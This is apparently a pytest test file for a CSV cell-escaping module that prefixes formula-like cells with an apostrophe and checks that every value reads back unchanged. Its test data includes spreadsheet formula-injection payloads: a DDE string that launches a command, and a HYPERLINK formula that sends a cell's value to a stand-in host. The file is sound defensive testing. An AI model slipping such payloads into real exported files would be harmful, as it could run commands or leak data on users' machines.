"""Cells of a CSV: no text begins as a formula does, and every one is read again as it was."""

import csv
import io
import itertools
from pathlib import Path

import pandas as pd
import pytest

from backdoor_privacy.data.cells import csv_text, plain_cell, read_csv, safe_cell

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://a.example/"&B2,"x")',
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}A1",
    "-Ann-",
]
PLAIN = ["Ann Lee", "'t Hooft", "'", "''", "''x", "O'Brien", "Ann=Lee", "", "1", 'Zoë, "Z"', "a;=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_gets_an_apostrophe_and_loses_it(text: str):
    for before in (text, f"'{text}", f"''{text}"):
        assert safe_cell(before) == f"'{before}"
        assert plain_cell(safe_cell(before)) == before


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str):
    assert safe_cell(text) == text == plain_cell(text)


@pytest.mark.parametrize("number", [-1, -0.5, 7, True, None])
def test_number_stays_a_number(number: object):
    assert safe_cell(number) is number
    assert plain_cell(number) is number


def test_every_text_is_read_as_it_was_and_none_is_a_formula():
    texts = ("".join(signs) for length in range(6) for signs in itertools.product("'=-@\t a\uff1d", repeat=length))
    for text in texts:
        assert plain_cell(safe_cell(text)) == text
        assert not safe_cell(text).lstrip(" ").startswith(("=", "-", "@", "\t", "\uff1d"))


def test_table_is_read_as_it_was(tmp_path: Path):
    names = [*FORMULAS, *(text for text in PLAIN if text)]
    table = pd.DataFrame({"name": names, "margin": [-0.25] * len(names), "votes": range(-3, len(names) - 3)})
    (tmp_path / "table.csv").write_text(csv_text(table, float_format="%.5g"), encoding="utf-8", newline="")
    pd.testing.assert_frame_equal(read_csv(tmp_path / "table.csv", dtype={"name": str}), table)
    rows = list(csv.reader(io.StringIO((tmp_path / "table.csv").read_text(encoding="utf-8"), newline="")))
    assert rows[0] == ["name", "margin", "votes"]
    assert [row[1:] for row in rows[1:]] == [["-0.25", str(number)] for number in table["votes"]]
    assert all(row[0].startswith("'") for row in rows[1 : len(FORMULAS) + 1])


def test_table_of_an_earlier_version_is_read_as_it_was(tmp_path: Path):
    (tmp_path / "table.csv").write_text("name,x\n=1+1,-2\n'tHooft,1\n''x,3\n-Ann,\n")
    table = read_csv(tmp_path / "table.csv", dtype={"name": str})
    assert table["name"].tolist() == ["=1+1", "'tHooft", "''x", "-Ann"]
    assert table["x"].tolist()[:3] == [-2, 1, 3]


def test_rows_of_several_tables_and_none_are_written():
    part = pd.DataFrame({"name": ["=a", "b"], "x": [1.0, -2.0]})
    assert csv_text(pd.concat([part, part])) == "name,x\n'=a,1.0\nb,-2.0\n" + "'=a,1.0\nb,-2.0\n"
    assert csv_text(part[:0]) == "name,x\n"
